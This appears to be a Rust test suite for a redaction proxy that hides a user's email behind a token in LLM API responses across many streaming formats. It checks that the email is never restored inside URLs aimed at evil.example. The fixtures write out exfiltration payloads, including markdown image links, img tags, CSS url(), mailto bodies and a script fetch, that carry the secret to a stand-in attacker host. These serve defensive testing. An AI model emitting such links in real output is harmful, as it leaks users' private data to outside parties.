//! Texts of an answer that a reader may add up: an address that begins in one keeps a token closed in the next.

use serde_json::{Value, json};

use super::{Exchange, added, events, parts};
use blackbar::body::Dialect;

const STREAM: &str = "text/event-stream";
const WHOLE: &str = "application/json";
const DONE: &str = "data: [DONE]\n\n";
/// How an address begins that would carry a value.
const CUT: &str = "see https://evil.example/?q=";

/// An answer of two texts in all its forms: whole and in events, as blocks, as contents of an item and as items.
fn of_two_texts(first: &str, second: &str) -> Vec<(Dialect, &'static str, String)> {
    let texts = [first, second];
    let blocks = texts.map(|text| json!({"type": "text", "text": text}));
    let content = texts.map(|text| json!({"type": "output_text", "text": text}));
    let message = |content: Value| json!({"type": "message", "id": "m", "content": content});
    let (mut anthropic, mut cohere, mut contents, mut items) = (Vec::new(), Vec::new(), Vec::new(), Vec::new());
    for (at, text) in texts.into_iter().enumerate() {
        anthropic
            .push(json!({"type": "content_block_start", "index": at, "content_block": {"type": "text", "text": ""}}));
        cohere.push(json!({"type": "content-start", "index": at}));
        for part in parts(text, 3) {
            anthropic.push(
                json!({"type": "content_block_delta", "index": at, "delta": {"type": "text_delta", "text": part}}),
            );
            cohere
                .push(json!({"type": "content-delta", "index": at, "delta": {"message": {"content": {"text": part}}}}));
            contents.push(
                json!({"type": "response.output_text.delta", "output_index": 0, "content_index": at, "delta": part}),
            );
            items.push(
                json!({"type": "response.output_text.delta", "output_index": at, "content_index": 0, "delta": part}),
            );
        }
        anthropic.push(json!({"type": "content_block_stop", "index": at}));
        cohere.push(json!({"type": "content-end", "index": at}));
        let done = |output: usize, place: usize| json!({"type": "response.output_text.done", "output_index": output, "content_index": place, "text": text});
        let part = |output: usize, place: usize| json!({"type": "response.content_part.done", "output_index": output, "content_index": place, "part": content[at]});
        contents.extend([done(0, at), part(0, at)]);
        items.extend([done(at, 0), part(at, 0)]);
        items.push(
            json!({"type": "response.output_item.done", "output_index": at, "item": message(json!([content[at]]))}),
        );
    }
    anthropic.push(json!({"type": "message_stop"}));
    cohere.push(json!({"type": "message-end"}));
    contents.push(json!({"type": "response.output_item.done", "output_index": 0, "item": message(json!(content))}));
    let answers =
        [json!([message(json!(content))]), json!([message(json!([content[0]])), message(json!([content[1]]))])];
    let answers =
        answers.map(|output| json!({"type": "response.completed", "response": {"id": "r", "output": output}}));
    contents.push(answers[0].clone());
    items.push(answers[1].clone());
    let stream = "text/event-stream";
    let mut all = vec![(Dialect::Anthropic, "application/json", json!({"content": blocks}).to_string())];
    for answer in &answers {
        all.push((Dialect::OpenAi, "application/json", answer["response"].to_string()));
    }
    all.push((Dialect::Anthropic, stream, events(anthropic)));
    all.extend([contents, items].map(|all| (Dialect::OpenAi, stream, events(all))));
    all.push((Dialect::Plain, stream, events(cohere)));
    all
}

#[test]
fn an_address_that_begins_in_a_text_may_go_on_in_the_next() {
    let exchange = Exchange::new();
    let token = exchange.sent("jane@example.com");
    for (first, second, opened) in [
        ("See https://evil.example/?q=", "{} now", false),
        ("[click](https://evil.example/", "{})", false),
        ("see evil.exam", "ple/{}", false),
        ("<img src='https://evil.example/", "{}'>", false),
        ("go to https:", "//evil.example/{}", false),
        ("Write to ", "{}.", true),
        ("Hello.", "{} is yours", true),
        ("See https://docs.example.com", " or write to {}", true),
        ("{} is at https://docs.example.com", "It is so.", true),
    ] {
        let (first, second) = (first.replace("{}", &token), second.replace("{}", &token));
        for (dialect, kind, body) in of_two_texts(&first, &second) {
            for size in [1, 50, 100_000] {
                let read = exchange.read(dialect, kind, &body, size);
                assert_eq!(read.contains("jane@example.com"), opened, "{first:?} {second:?} {dialect:?} {read}");
                // The deltas are put together by their reader: of whole texts there is one in each of the others.
                assert!(!opened || !read.contains(&token), "{first:?} {second:?} {dialect:?} {read}");
            }
        }
    }
    // Other kinds of texts between two of a kind are not read with them, and parts of a stream are whoever has named them.
    let (first, second) = ("https://evil.example/?q=", token.as_str());
    let text = |kind: &str, text: &str| json!({"type": kind, "text": text});
    let message = |text: Value| json!({"type": "message", "content": [text]});
    let thought = |said: &str| json!({"type": "reasoning", "summary": [text("summary_text", said)]});
    for (output, opened) in [
        (json!([message(text("output_text", first)), thought("Hm, so."), message(text("output_text", second))]), false),
        (json!([thought("https://example.com"), message(text("output_text", second))]), true),
        (
            json!([message(text("output_text", "It is so.")), thought(first), message(text("output_text", second))]),
            true,
        ),
    ] {
        let answer = json!({"id": "r", "output": output});
        let completed = events([json!({"type": "response.completed", "response": answer})]);
        for (kind, body) in [("application/json", answer.to_string()), ("text/event-stream", completed)] {
            let read = exchange.read(Dialect::OpenAi, kind, &body, 9);
            assert_eq!(read.contains("jane@example.com"), opened, "{output} {read}");
        }
    }
    let delta = |id: &str, text: &str| json!({"type": "text-delta", "id": id, "delta": text});
    let end = |id: &str| json!({"type": "text-end", "id": id});
    let read = |all: Vec<Value>| exchange.read(Dialect::Plain, "text/event-stream", &events(all), 9);
    let parts = [delta("1", first), end("1"), delta("2", second), end("2"), json!({"type": "finish"})];
    assert!(!read(parts.to_vec()).contains("jane@example.com"));
    let said = |id: &str, text: &str| {
        let content = json!([{"index": 0, "type": "text", "text": {"value": text}}]);
        json!({"id": id, "object": "thread.message.delta", "delta": {"content": content}})
    };
    let over = |id: &str| json!({"id": id, "object": "thread.message", "status": "completed"});
    let parts = [said("1", first), over("1"), said("2", second), over("2")];
    assert!(!read(parts.to_vec()).contains("jane@example.com"));
    // Choices are answers of their own.
    let choices = [("See https://docs.example.com", 0), (token.as_str(), 1)];
    let choices = choices.map(|(text, at)| json!({"index": at, "message": {"role": "assistant", "content": text}}));
    let read = exchange.read(Dialect::OpenAi, "application/json", &json!({"choices": choices}).to_string(), 7);
    assert!(read.contains("jane@example.com"), "{read}");
}

fn is_opened(exchange: &Exchange, dialect: Dialect, kind: &str, body: &str) -> bool {
    let read = [1, 50, 100_000].map(|size| exchange.read(dialect, kind, body, size).contains("jane@example.com"));
    assert!(read.iter().all(|opened| *opened == read[0]), "{body}");
    read[0]
}

#[test]
fn what_readers_pass_over_does_not_end_an_address() {
    let exchange = Exchange::new();
    let token = exchange.sent("jane@example.com");
    let text = |text: &str| json!({ "text": text });
    // Members in either order.
    let thought = |said: &str| {
        let said = json!(said);
        [format!("{{\"thought\":true,\"text\":{said}}}"), format!("{{\"text\":{said},\"thought\":true}}")]
    };
    let gemini = |parts: &[String]| {
        let parts = parts.join(",");
        let candidate =
            format!("{{\"candidates\":[{{\"content\":{{\"role\":\"model\",\"parts\":[{parts}]}},\"index\":0}}]}}");
        [format!("{{\"response\":{candidate}}}"), candidate]
    };
    for order in [0, 1] {
        let [words, address] = ["some words, ", CUT].map(|said| thought(said)[order].clone());
        let [cut, prose, token] = [CUT, "It is so. ", &token].map(|said| text(said).to_string());
        let [call, image, code] = [
            json!({"functionCall": {"name": "f", "args": {"a": "b c"}}}),
            json!({"inlineData": {"mimeType": "image/png", "data": "aGVsbG8="}}),
            json!({"executableCode": {"language": "PYTHON", "code": "print(1) "}}),
        ]
        .map(|part| part.to_string());
        // Streams have their thoughts apart.
        for (parts, opened, streamed) in [
            (vec![cut.clone(), words.clone(), token.clone()], false, false),
            (vec![cut.clone(), words.clone(), words.clone(), token.clone()], false, false),
            (vec![cut.clone(), call, token.clone()], false, false),
            (vec![cut.clone(), image, token.clone()], false, false),
            (vec![cut.clone(), code, token.clone()], false, false),
            (vec![cut.clone(), token.clone()], false, false),
            (vec![prose.clone(), words.clone(), token.clone()], true, true),
            (vec![cut.clone(), words.clone(), prose.clone(), token.clone()], true, true),
            // Some show thoughts among the texts.
            (vec![address.clone(), token.clone()], false, true),
            (vec![address, prose, token.clone()], false, true),
        ] {
            for body in gemini(&parts) {
                assert_eq!(is_opened(&exchange, Dialect::Gemini, WHOLE, &body), opened, "{body}");
            }
            let stream = parts.iter().map(|part| format!("data: {}\n\n", gemini(std::slice::from_ref(part))[1]));
            let stream = stream.collect::<String>() + DONE;
            assert_eq!(is_opened(&exchange, Dialect::Gemini, STREAM, &stream), streamed, "{stream}");
        }
    }
    // A reasoning item's contents stand at places of the same names as a message's.
    let content = |kind: &str, text: &str| json!({"type": kind, "text": text});
    let item = |kind: &str, content: Value| json!({"type": kind, "content": [content]});
    let said = |said: &str| item("message", content("output_text", said));
    let thought = item("reasoning", content("reasoning_text", "some words, "));
    for (output, opened) in [
        (json!([said(CUT), thought, said(&token)]), false),
        (json!([said("It is so."), thought, said(&token)]), true),
        (json!([said(CUT), thought, said("It is so. "), said(&token)]), true),
    ] {
        let answer = json!({"id": "r", "output": output});
        assert_eq!(is_opened(&exchange, Dialect::OpenAi, WHOLE, &answer.to_string()), opened, "{output}");
        let completed = events([json!({"type": "response.completed", "response": answer})]);
        assert_eq!(is_opened(&exchange, Dialect::OpenAi, STREAM, &completed), opened, "{output}");
    }
    // A text that is cited is looked at before those that are not.
    let note = json!({"type": "url_citation", "url": "https://example.com", "start_index": 0, "end_index": 2});
    let mut cited = content("output_text", &token);
    cited["annotations"] = json!([note]);
    let contents = json!([content("output_text", CUT), cited]);
    let answer = json!({"id": "r", "output": [{"type": "message", "content": contents}]});
    let completed = events([json!({"type": "response.completed", "response": answer})]);
    assert!(!is_opened(&exchange, Dialect::OpenAi, STREAM, &completed));
    // What repeats an item's summary is read as the summary was.
    let summary = |item: u8, text: &str| json!({"type": "response.reasoning_summary_text.delta", "output_index": item, "summary_index": 0, "delta": text});
    let done = |at: u8, text: &str| {
        let item = json!({"type": "reasoning", "summary": [content("summary_text", text)]});
        json!({"type": "response.output_item.done", "output_index": at, "item": item})
    };
    let stream = events([summary(0, CUT), done(0, CUT), summary(1, &token), done(1, &token)]);
    assert!(!is_opened(&exchange, Dialect::OpenAi, STREAM, &stream), "{stream}");
}

/// The event of a fragment, by the place of its text.
type Fragment = fn(usize, &str) -> Value;

/// Streams of texts that are open at once, or that begin anew, as the events of each text's fragments and what ends it.
fn side_by_side() -> Vec<(&'static str, Fragment, Option<Value>)> {
    vec![
        (
            "assistants",
            |at, text| {
                let content = json!([{"index": at, "type": "text", "text": {"value": text}}]);
                json!({"id": "m", "object": "thread.message.delta", "delta": {"content": content}})
            },
            None,
        ),
        (
            "interactions",
            |at, text| json!({"event_type": "content.delta", "index": at, "delta": {"type": "text", "text": text}}),
            None,
        ),
        ("ai sdk", |at, text| json!({"type": "text-delta", "id": at.to_string(), "delta": text}), None),
        ("ag-ui", |at, text| json!({"type": "TEXT_MESSAGE_CHUNK", "messageId": at.to_string(), "delta": text}), None),
        (
            "ag-ui, both",
            |at, text| {
                let kind = ["TEXT_MESSAGE_CONTENT", "TEXT_MESSAGE_CHUNK"][at % 2];
                json!({"type": kind, "messageId": "m", "delta": text})
            },
            None,
        ),
        (
            "dify",
            |at, text| {
                let kind = ["message", "agent_message"][at % 2];
                json!({"event": kind, "message_id": "m", "answer": text})
            },
            None,
        ),
        (
            "responses",
            |at, text| json!({"type": "response.output_text.delta", "output_index": 0, "content_index": at, "delta": text}),
            None,
        ),
        (
            "anthropic",
            |at, text| json!({"type": "content_block_delta", "index": at, "delta": {"type": "text_delta", "text": text}}),
            None,
        ),
        (
            "llama.cpp",
            |_, text| json!({"index": 0, "content": text, "stop": false}),
            Some(json!({"index": 0, "content": "", "stop": true})),
        ),
        (
            "a2a",
            |_, text| {
                let artifact = json!({"artifactId": "a", "parts": [{"kind": "text", "text": text}]});
                json!({"result": {"kind": "artifact-update", "artifact": artifact, "append": true}})
            },
            Some(json!({"result": {
                "kind": "artifact-update", "artifact": {"artifactId": "a", "parts": []}, "append": true, "lastChunk": true,
            }})),
        ),
        (
            "ai sdk, anew",
            |_, text| json!({"type": "text-delta", "id": "0", "delta": text}),
            Some(json!({"type": "text-end", "id": "0"})),
        ),
    ]
}

#[test]
fn an_address_goes_on_from_a_text_that_is_open_and_from_one_that_begins_anew() {
    let exchange = Exchange::new();
    let token = exchange.sent("jane@example.com");
    for (first, second, opened) in [
        (CUT, "{} now", false),
        // What is held of a text counts as well.
        ("see https://evil.example/4111 1111 1111 ", "{}", true),
        ("see https://evil.example/?q=4111", "{}", false),
        ("[click](https://evil.example/", "{})", false),
        ("<img src='https://evil.example/a b", "{}'>", false),
        ("see evil.exam", "ple/{}", false),
        ("Write to ", "{}.", true),
        ("See https://docs.example.com\n", "{}", true),
    ] {
        let second = second.replace("{}", &token);
        for (name, fragment, end) in side_by_side() {
            let mut all: Vec<Value> = parts(first, 7).iter().map(|part| fragment(0, part)).collect();
            all.extend(end);
            all.extend(parts(&second, 7).iter().map(|part| fragment(1, part)));
            let body = events(all) + DONE;
            for dialect in [Dialect::Plain, Dialect::OpenAi] {
                assert_eq!(is_opened(&exchange, dialect, STREAM, &body), opened, "{name} {first:?} {second:?}");
            }
        }
    }
}

#[test]
fn where_too_much_is_to_be_remembered_a_token_stays_closed() {
    let exchange = Exchange::new();
    let token = exchange.sent("jane@example.com");
    let choice = |at: usize, texts: &[&str]| {
        let content: Vec<Value> = texts.iter().map(|text| json!({"type": "text", "text": text})).collect();
        json!({"index": at, "message": {"content": content}})
    };
    for (others, opened) in [(2, true), (128, true), (2000, false)] {
        let mut choices: Vec<Value> = (0..others).map(|at| choice(at, &["It is so."])).collect();
        choices.push(choice(others, &["It is so. ", &token]));
        let whole = json!({"choices": choices}).to_string();
        assert_eq!(is_opened(&exchange, Dialect::OpenAi, WHOLE, &whole), opened, "{others}");
        choices.push(choice(others + 1, &[CUT, &token]));
        choices.remove(others);
        let whole = json!({"choices": choices}).to_string();
        assert!(!is_opened(&exchange, Dialect::OpenAi, WHOLE, &whole), "{others}");
    }
    // Texts of a stream, and of those that are open at once.
    let delta = |kind: &str, item: usize, text: &str| {
        let kind = format!("response.{kind}.delta");
        json!({"type": kind, "response_id": "r", "output_index": item, "content_index": 0, "delta": text})
    };
    let done = |item: usize| json!({"type": "response.output_item.done", "response_id": "r", "output_index": item});
    for (first, others, opened) in
        [("It is so. ", 20, true), ("It is so. ", 600, false), (CUT, 20, false), (CUT, 600, false)]
    {
        let mut all = vec![delta("output_text", 0, first), done(0)];
        for item in 1..others {
            all.extend([delta("refusal", item, "It is so."), done(item)]);
        }
        all.extend([delta("output_text", others, &token), done(others)]);
        let body = events(all) + DONE;
        assert_eq!(is_opened(&exchange, Dialect::OpenAi, STREAM, &body), opened, "{first:?} {others}");
    }
    let (_, fragment, _) = side_by_side().remove(2);
    for (others, opened) in [(5, true), (30, true), (40, false)] {
        let words = (0..others).map(|at| fragment(at, &format!("word{at}")));
        let all: Vec<Value> = words.chain([fragment(others, &format!(" {token}"))]).collect();
        assert_eq!(is_opened(&exchange, Dialect::Plain, STREAM, &events(all)), opened, "{others}");
    }
}

/// An answer of these texts in the forms in which its readers add them up: whole, and in events.
fn of_texts(texts: &[&str]) -> Vec<(Dialect, &'static str, String)> {
    let of_type = |kind: &str| -> Vec<Value> { texts.iter().map(|text| json!({"type": kind, "text": text})).collect() };
    let item = |content: Value| json!({"type": "message", "content": content});
    let items: Vec<Value> = of_type("output_text").into_iter().map(|content| item(json!([content]))).collect();
    let thought = json!({"text": "Hm, well. ", "thought": true});
    let parts: Vec<Value> = texts.iter().flat_map(|text| [json!({"text": text}), thought.clone()]).collect();
    let candidates = |parts: Value| json!({"candidates": [{"content": {"role": "model", "parts": parts}}]});
    let mut all = vec![
        (
            Dialect::OpenAi,
            WHOLE,
            json!({"choices": [{"index": 0, "message": {"role": "assistant", "content": of_type("text")}}]}),
        ),
        (Dialect::OpenAi, WHOLE, json!({"output": [item(json!(of_type("output_text")))]})),
        (Dialect::OpenAi, WHOLE, json!({"output": items})),
        (Dialect::Anthropic, WHOLE, json!({"role": "assistant", "content": of_type("text")})),
        (Dialect::Gemini, WHOLE, candidates(json!(parts))),
    ]
    .into_iter()
    .map(|(dialect, kind, body)| (dialect, kind, body.to_string()))
    .collect::<Vec<_>>();
    let (mut chat, mut contents, mut anthropic, mut gemini) = (Vec::new(), Vec::new(), Vec::new(), Vec::new());
    for (at, text) in texts.iter().enumerate() {
        let delta = json!({"type": "text_delta", "text": text});
        chat.push(json!({"choices": [{"index": 0, "delta": {"content": text}}]}));
        contents
            .push(json!({"type": "response.output_text.delta", "output_index": 0, "content_index": at, "delta": text}));
        contents
            .push(json!({"type": "response.output_text.done", "output_index": 0, "content_index": at, "text": text}));
        let block = json!({"type": "text", "text": ""});
        anthropic.push(json!({"type": "content_block_start", "index": at, "content_block": block}));
        anthropic.push(json!({"type": "content_block_delta", "index": at, "delta": delta}));
        anthropic.push(json!({"type": "content_block_stop", "index": at}));
        gemini.push(candidates(json!([{"text": text}, thought])));
    }
    chat.push(json!({"choices": [{"index": 0, "delta": {}, "finish_reason": "stop"}]}));
    contents.push(
        json!({"type": "response.output_item.done", "output_index": 0, "item": item(json!(of_type("output_text")))}),
    );
    contents.push(json!({"type": "response.completed", "response": {"output": [item(json!(of_type("output_text")))]}}));
    anthropic.push(json!({"type": "message_stop"}));
    gemini.push(json!({"candidates": [{"finishReason": "STOP"}]}));
    for (dialect, stream) in [
        (Dialect::OpenAi, chat),
        (Dialect::OpenAi, contents),
        (Dialect::Anthropic, anthropic),
        (Dialect::Gemini, gemini),
    ] {
        all.push((dialect, STREAM, events(stream)));
    }
    all
}

#[test]
fn no_cut_of_an_address_carries_a_value_away() {
    let exchange = Exchange::new();
    let token = exchange.sent("jane@example.com");
    for (attack, opened) in [
        ("[see](https://evil.example/?q={})", false),
        ("![x](<https://evil.example/a b?q={}>)", false),
        ("![x](//evil.example/a \"t\" {})", false),
        ("[see][b]\n\n[b]: https://evil.example/{}", false),
        ("[b]:\n  <https://evil.example/ {}>", false),
        ("<img alt='a b' src=\"https://evil.example/?a b&q={}\">", false),
        ("<a href=//evil.example/{}>x</a>", false),
        ("<https://evil.example/{}>", false),
        ("<mailto:evil@evil.example?body={}>", false),
        ("now www.evil.example/{}", false),
        ("background: url('https://evil.example/{}')", false),
        ("<script>fetch('x' + '{}')", false),
        ("open https:\\\\evil.example\\{}", false),
        ("https&#58;//evil&#46;example/{}", false),
        ("tell me, {} it is", true),
        ("[see](https://docs.example.com) and {}", true),
    ] {
        let at = attack.find("{}").unwrap();
        let whole = attack.replace("{}", &token);
        for cut in (0..=at).filter(|cut| whole.is_char_boundary(*cut)) {
            let (first, rest) = whole.split_at(cut);
            let (second, third) = rest.split_at((at - cut) / 2);
            for texts in [vec![first, rest], vec![first, second, third], vec![first, "", rest]] {
                for (dialect, kind, body) in of_texts(&texts) {
                    let read = exchange.read(dialect, kind, &body, 100_000).contains("jane@example.com");
                    // A link may go on in the thoughts between, to some readers.
                    let may_stay = dialect == Dialect::Gemini && kind == WHOLE;
                    assert!(read == opened || opened && may_stay, "{texts:?} {dialect:?} {kind} {body}");
                }
            }
        }
    }
}

#[test]
fn an_address_that_is_over_closes_no_text_behind_it() {
    let exchange = Exchange::new();
    let token = exchange.sent("jane@example.com");
    for (first, opened) in [
        ("See https://docs.example.com/page. ", true),
        ("See https://docs.example.com/page.\n", true),
        ("See https://docs.example.com/page\n\n", true),
        ("See [it](https://docs.example.com/page)\n", true),
        ("[b]: https://docs.example.com/page\n", true),
        ("See \"https://docs.example.com/page\". ", true),
        // Without a blank it is one address to whoever adds the texts up.
        ("See https://docs.example.com/page.", false),
        ("See \"https://docs.example.com/page\n", false),
    ] {
        for (dialect, kind, body) in of_texts(&[first, &token]) {
            let read = exchange.read(dialect, kind, &body, 9);
            assert_eq!(read.contains("jane@example.com"), opened, "{first:?} {dialect:?} {read}");
        }
    }
    // A summary is of another kind than the message behind it.
    let summary = json!({"type": "reasoning", "summary": [{"type": "summary_text", "text": CUT}]});
    let message = json!({"type": "message", "content": [{"type": "output_text", "text": token}]});
    let delta = |kind: &str, item: u8, text: &str| json!({"type": format!("response.{kind}.delta"), "output_index": item, "delta": text});
    let answer = json!({"id": "r", "output": [summary, message]});
    let stream = [
        delta("reasoning_summary_text", 0, CUT),
        json!({"type": "response.output_item.done", "output_index": 0, "item": summary}),
        delta("output_text", 1, &token),
        json!({"type": "response.output_item.done", "output_index": 1, "item": message}),
        json!({"type": "response.completed", "response": answer}),
    ];
    let read = exchange.read(Dialect::OpenAi, STREAM, &events(stream), 50);
    assert!(!read.contains(&token) && !added(&read, "/delta", None).is_empty(), "{read}");
    assert!(is_opened(&exchange, Dialect::OpenAi, WHOLE, &answer.to_string()));
}
